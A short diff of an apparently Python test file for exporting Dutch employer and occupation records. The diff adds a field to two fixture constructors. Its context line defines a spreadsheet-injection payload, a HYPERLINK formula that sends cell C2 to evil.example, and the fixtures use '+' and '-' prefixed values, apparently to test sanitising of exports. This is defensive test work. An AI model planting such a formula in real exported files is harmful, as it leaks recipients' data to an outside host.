@@ -15,10 +15,10 @@ ATTACK = '=HYPERLINK("http://evil.example/?leak="&C2,"Klik hier")'
 
 def _spot(name: str, employer_id: str) -> WhiteSpot:
     occupation = OccupationPotential(
-        "http://data.europa.eu/esco/occupation/x", "+schoonmaker", 1, 3
+        "http://data.europa.eu/esco/occupation/x", "+schoonmaker", 1, 3, 0.2
     )
     return WhiteSpot(
-        employer_id, name, "GM0575", "Noordwijk", "Holland Rijnland", "81", "N", -1, 42.5,
+        employer_id, name, "GM0575", "Noordwijk", "Holland Rijnland", "81", "N", -1, 42.5, 3,
         (occupation,), 7, 2, ("-eerste reden", "tweede reden"),
     )  # fmt: skip
 
